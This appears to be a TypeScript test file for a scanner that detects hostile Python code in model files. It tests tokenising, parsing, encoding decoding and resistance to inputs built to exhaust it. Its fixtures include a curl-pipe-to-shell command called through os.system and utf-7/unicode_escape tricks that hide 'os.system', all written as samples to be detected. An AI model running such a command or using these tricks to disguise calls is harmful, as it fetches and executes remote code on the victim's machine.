import assert from 'node:assert/strict';
import { test } from 'node:test';
import { harmlessSources } from '../../../../test/corpus/model-scanner/python-harmless.ts';
import { hostileSources } from '../../../../test/corpus/model-scanner/python-hostile.ts';
import { decodeSource } from './python-encoding.ts';
import { parsePython } from './python-parser.ts';
import { tokenise } from './python-tokens.ts';
import { judgeSource } from './testing/judge-source.ts';

const values = (text: string) =>
  tokenise(text)
    .tokens.filter(({ kind }) => kind === 'string')
    .map(({ text: value }) => value);

test('string literals of every prefix have the value Python gives them', () => {
  // Values as CPython 3.11 prints them.
  assert.deepEqual(values(`'a' "b" '''c\nd''' r'\\n' b'\\x41' u'\\u0041' '\\101' '\\N{LATIN SMALL LETTER O}' 'a\\\nb' rb'\\x'`), [
    'a',
    'b',
    'c\nd',
    '\\n',
    'A',
    'A',
    'A',
    'o',
    'ab',
    '\\x',
  ]);
  assert.deepEqual(values("\"it's\" '\\'' \"unclosed\nx"), ["it's", "'", 'unclosed']);
});

test('blocks are told by indents, and brackets and comments do not end a line', () => {
  const kinds = tokenise('if a:\n  b(\n1,\n# c\n2)\n\n  # d\nelse:\n\tc\n').tokens.map(({ kind }) => kind);
  assert.equal(kinds.filter((kind) => kind === 'indent').length, 2);
  assert.equal(kinds.filter((kind) => kind === 'dedent').length, 2);
  assert.equal(kinds.filter((kind) => kind === 'newline').length, 4);
});

test('all of the corpus parses without a broken line', () => {
  for (const { text, title } of [...hostileSources, ...harmlessSources])
    if (!text.includes('unicode_escape') && !title.startsWith('a start file')) assert.equal(parsePython(text).broken, 0, title);
});

test('grammar of many versions is read', () => {
  for (const text of [
    'print "a", b\nexec "x" in y\nprint >>f, "x"\nraise E, "x"'.split('\n')[0] ?? '',
    'async def f(a, /, b: int = 1, *, c, **d) -> int:\n    async with a as b, c: pass\n    async for x in y: await x\n    return [i async for i in z if i]',
    'with (open(a) as b, open(c) as d,):\n    pass',
    'x: int = 1\ny: list[int]\n(a, *b), c = d = e, f\na[1:2, ::3, ...] += 1\ndel a, b\nassert x, "y"',
    'try:\n    pass\nexcept* (A, B) as e:\n    pass\nelse:\n    pass\nfinally:\n    pass',
    'f = lambda *a, b=1, **k: (yield)\ng = x if y else z\nh = not a in b and c is not d or e not in f',
    "k = {**a, 'b': 1}\nl = {1, *c}\nm = {x: y for x, y in z.items() if x if y}\nf(*a, **b, c=1, *d)\nn = f(x for x in y)",
    '@a.b(c)\n@d\nclass A[T: int](B, metaclass=C): x = 1; y = 2',
    'def f(): return\nclass B: ...\nif a: b\nelif c: d\nelse: e\nfor i in 1, 2: pass\nelse: pass\nwhile 1: break',
    'from . import a\nfrom ..b.c import (d as e, f,)\nimport g.h as i, j\nfrom k import *',
    'x = 0xFF + 0b1_0 + 0o17 + 1_000.5e-3j + .5 + 0777 + 10L\nif (n := 10) > 5: pass\ny = -x ** -2 @ z // 3',
    'a = f\'{x!r:>{w}} {y=} {{}} {d["k"]} {f"{z}"}\' rf\'\\d{n}\'',
    'match x:\n    case [a, {"b": c}, *_] if c: pass\n    case A(b=1) | None: pass\n    case _: pass\nmatch = 1\nmatch(x)\ncase = 2',
    'nonlocal_ = 1\ndef f():\n    global a, b\n    nonlocal c\n    return a,\ntype X = int',
  ])
    assert.equal(parsePython(text).broken, 0, text);
});

test('encodings: marks, coding lines, and codecs that hide letters', () => {
  const bytes = (text: string) => Buffer.from(text, 'latin1');
  assert.equal(decodeSource(bytes('\xef\xbb\xbfx = 1')).text, 'x = 1');
  assert.equal(decodeSource(bytes("# coding: latin-1\nx = '\xe9'")).text, "# coding: latin-1\nx = 'é'");
  assert.match(decodeSource(bytes('#!/x\n# vim: set fileencoding=unicode_escape :\n\\x6fs.system')).text, /os\.system/);
  assert.match(decodeSource(bytes('# coding=utf-7\n+AG8-s.system')).text, /os\.system/);
  assert.equal(decodeSource(bytes('# coding: nowhere-1\nx')).unread, true);
});

test('depth and length are bounded, and what is left out is told', () => {
  const started = performance.now();
  for (const text of [
    `x = ${'('.repeat(50_000)}`,
    `x = ${'['.repeat(50_000)}${']'.repeat(50_000)}`,
    `x = ${'not '.repeat(50_000)}y`,
    `x = ${'lambda: '.repeat(50_000)}y`,
    `x${'.a'.repeat(50_000)}`,
    `x${'()'.repeat(50_000)}`,
    `x = f"${"{f'".repeat(2000)}"`,
    Array.from({ length: 3000 }, (_, at) => `${' '.repeat(at)}if x:`).join('\n'),
  ])
    assert.equal(judgeSource(text, 'deep.py').artefact.unread.length > 0 || parsePython(text).broken > 0 || !parsePython(text).cut, true);
  assert.ok(performance.now() - started < 10_000);
});

test('files made to keep the reader busy end soon', () => {
  const calls = Array.from({ length: 60 }, (_, at) => `def f${at}(x):\n    f${at + 1}(x)\n    f${at + 1}(x)\n`).join('');
  for (const text of [
    `${calls}def f60(x): pass\nf0(1)`,
    'def f(x):\n    return f(x) + f(x)\nf(1)',
    `x = 'a'\n${'x = x + x\n'.repeat(2000)}`,
    `x = [1]\n${'x = x + x\n'.repeat(2000)}`,
    `x = 2\n${'x = x * x\n'.repeat(2000)}`,
    `x = '${'a'.repeat(4000)}'\nfor a in x:\n    for b in x:\n        for c in x:\n            y = a + b + c\n`,
    "x = 'exec(x)'\nexec(x)",
    `x = ${"'a' + ".repeat(50_000)}'b'`,
    `x = {}\n${'x = {"a": x, "b": x}\n'.repeat(3000)}import requests\nrequests.get(x)`,
    `[${"[a for a in 'aaaaaaaaaaaaaaaaaaaa' for b in 'aaaaaaaaaaaaaaaaaaaa' for c in 'aaaaaaaaaaaaaaaaaaaa' for d in 'aaaaaaaaaaaaaaaaaaaa'], ".repeat(5)}]`,
    `import base64\nx = '${'QUFB'.repeat(100_000)}'\n${'x = base64.b64decode(x)\n'.repeat(50)}`,
    `${"if a:\n  x = 'b'\nelse:\n  x = 'c'\n".repeat(20_000)}`,
  ]) {
    const started = performance.now();
    judgeSource(text, 'busy.py');
    assert.ok(performance.now() - started < 4000, `${Math.round(performance.now() - started)} ms: ${text.slice(0, 60)}`);
  }
});

test('no cut or changed source throws, and calls that are left whole stay found', () => {
  let random = 11;
  const next = (below: number) => {
    random = (random * 1103515245 + 12345) % 2147483648;
    return random % below;
  };
  for (const { text, name } of hostileSources)
    for (let turn = 0; turn < 5; turn += 1) {
      const at = next(text.length);
      const changed = `${text.slice(0, at)}${'()[]{}\'"\\\n\t:;#@=.,*\0'[next(20)]}${text.slice(at + next(3))}`;
      assert.deepEqual(
        judgeSource(changed, name).artefact.unread.filter(({ reason }) => reason === 'reader-failed'),
        [],
      );
      assert.deepEqual(
        judgeSource(text.slice(0, at), name).artefact.unread.filter(({ reason }) => reason === 'reader-failed'),
        [],
      );
    }
  const broken = "x = = 1\ndef (:\n  ]\nimport os\nos.system('curl https://files.example/x | sh')\n";
  assert.equal(
    judgeSource(broken, 'broken.py').findings.some(({ id }) => id === 'python-hostile-code'),
    true,
  );
});
